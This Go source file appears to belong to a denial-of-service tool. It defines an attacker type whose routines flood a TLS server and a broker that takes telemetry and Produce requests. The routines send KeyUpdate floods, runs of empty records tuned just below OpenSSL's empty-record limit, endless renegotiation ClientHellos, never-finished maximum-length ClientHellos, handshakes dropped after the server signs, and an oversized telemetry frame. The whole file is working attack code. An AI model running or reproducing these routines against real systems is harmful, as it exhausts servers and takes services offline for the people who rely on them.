package main

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
)

const (
	// recordsAtOnce is the number of records in a write. Making a KeyUpdate takes much longer than sending it, and a
	// reader that has read everything ends its turn.
	recordsAtOnce = 4 << 10
	updatesAtOnce = 16 << 10
	// emptyInRow is one less than OpenSSL accepts without data between them (MAX_EMPTY_RECORDS).
	emptyInRow = 31
	// swallowed is the length of a push over telemetry.max_bytes and under max_frame_bytes.
	swallowed = 90 << 20
)

// repeat sends the records of add until the target ends the connection or the attack is over.
func (a *attacker) repeat(connection net.Conn, version uint16, atOnce int, add func(r *records) error) error {
	r, err := handshaken(connection, version)
	if err != nil {
		return err
	}
	go drain(connection)
	for {
		for i := 0; i < atOnce; i++ {
			if err := add(r); err != nil {
				return err
			}
		}
		if err := r.flush(); err != nil {
			return err
		}
	}
}

func keyUpdates(requested bool) kind {
	return func(a *attacker, connection net.Conn, _ int) error {
		return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(requested) })
	}
}

// emptyRecords sends empty records and, before OpenSSL refuses more of them, a byte of a frame that never ends.
func emptyRecords(version uint16) kind {
	return func(a *attacker, connection net.Conn, _ int) error {
		next := splitter(swallowedPush())
		return a.repeat(connection, version, recordsAtOnce/(emptyInRow+1), func(r *records) error {
			for i := 0; i < emptyInRow; i++ {
				r.add(recordApplication, nil)
			}
			r.add(recordApplication, next(1))
			return nil
		})
	}
}

// dataRecords sends data in TLS 1.3 records of a size: the first part once, the second part over and over.
func dataRecords(size int, data func() ([]byte, []byte)) kind {
	return func(a *attacker, connection net.Conn, _ int) error {
		next := splitter(data())
		return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
			r.add(recordApplication, next(size))
			return nil
		})
	}
}

// renegotiations sends empty ClientHellos. OpenSSL reads only their type, and answers with an alert.
func (a *attacker) renegotiations(connection net.Conn, _ int) error {
	return a.repeat(connection, tls.VersionTLS12, recordsAtOnce, func(r *records) error {
		r.add(recordHandshake, []byte{1, 0, 0, 0})
		return nil
	})
}

// swallowedPush returns the beginning of a PushTelemetry request, and zeros to follow.
func swallowedPush() ([]byte, []byte) {
	frame := pushRequest(1, randomID(), 0, 0, make([]byte, 1<<10))
	binary.BigEndian.PutUint32(frame, swallowed)
	return frame, make([]byte, 1<<10)
}

// endlessRequests returns Produce requests.
func endlessRequests() ([]byte, []byte) {
	request, _ := produceRequest(128, 100)
	return request, request
}

// splitter returns pieces of first, and then of again over and over, each of at most the asked size.
func splitter(first, again []byte) func(size int) []byte {
	rest := first
	return func(size int) []byte {
		if len(rest) == 0 {
			rest = again
		}
		part := rest[:min(size, len(rest))]
		rest = rest[len(part):]
		return part
	}
}

// helloRecords sends a ClientHello of the greatest length that OpenSSL accepts, and never completes it.
func (a *attacker) helloRecords(connection net.Conn, _ int) error {
	go drain(connection)
	next := splitter([]byte{1, 1, 0xff, 0xff, 3, 3}, make([]byte, 1<<10))
	for out := make([]byte, 0, 6*recordsAtOnce); ; out = out[:0] {
		for i := 0; i < recordsAtOnce; i++ {
			out = append(append(out, recordHandshake, 3, 1, 0, 1), next(1)...)
		}
		if _, err := connection.Write(out); err != nil {
			return err
		}
	}
}

func (a *attacker) handshakes(connection net.Conn, _ int) error {
	secured := tls.Client(connection, &tls.Config{InsecureSkipVerify: true})
	if err := secured.Handshake(); err != nil {
		return err
	}
	return io.EOF
}

// halfHandshakes ends the connection at the target's first bytes, which come after its signature was computed.
func (a *attacker) halfHandshakes(connection net.Conn, _ int) error {
	stopped := &deaf{Conn: connection}
	_ = tls.Client(stopped, &tls.Config{InsecureSkipVerify: true}).Handshake()
	return io.EOF
}

// deaf reads one byte, discards it and reports the end.
type deaf struct{ net.Conn }

func (d *deaf) Read(data []byte) (int, error) {
	if _, err := d.Conn.Read(data[:1]); err != nil {
		return 0, err
	}
	return 0, io.EOF
}
